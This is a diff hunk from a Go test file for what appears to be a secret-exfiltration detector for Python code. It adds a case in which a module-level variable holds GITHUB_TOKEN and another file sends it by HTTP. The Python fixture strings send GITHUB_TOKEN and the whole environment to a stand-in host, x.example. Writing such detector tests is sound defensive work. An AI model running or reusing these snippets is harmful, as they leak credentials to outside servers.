@@ -238,6 +238,13 @@ func TestPythonSourceToSink(t *testing.T) {
 			"a.py":     "import os\nfrom . import state\nstate.loot = os.environ['GITHUB_TOKEN']\n",
 			"b.py":     "import urllib.request\nfrom . import state\nurllib.request.urlopen('https://x.example/?' + state.loot)\n",
 		}, nil, "reads the environment secret $GITHUB_TOKEN (a.py:3) → sent over HTTP (b.py:3)"},
+		// The same with the reader's file first in every order: the writes of one module
+		// into another are in place before the readers are judged.
+		{"module attribute, read before written", map[string]string{
+			"state.py": "loot = ''\n",
+			"a.py":     "import urllib.request\nfrom . import state\nurllib.request.urlopen('https://x.example/?' + state.loot)\n",
+			"z.py":     "import os\nfrom . import state\nstate.loot = os.environ['GITHUB_TOKEN']\n",
+		}, nil, "reads the environment secret $GITHUB_TOKEN (z.py:3) → sent over HTTP (a.py:3)"},
 		{"whole environment", map[string]string{
 			"p.py": "import os, json, httpx\nhttpx.post('https://x.example', content=json.dumps({**os.environ}))\n",
 		}, nil, "reads the whole environment (p.py:2) → sent over HTTP (p.py:2)"},
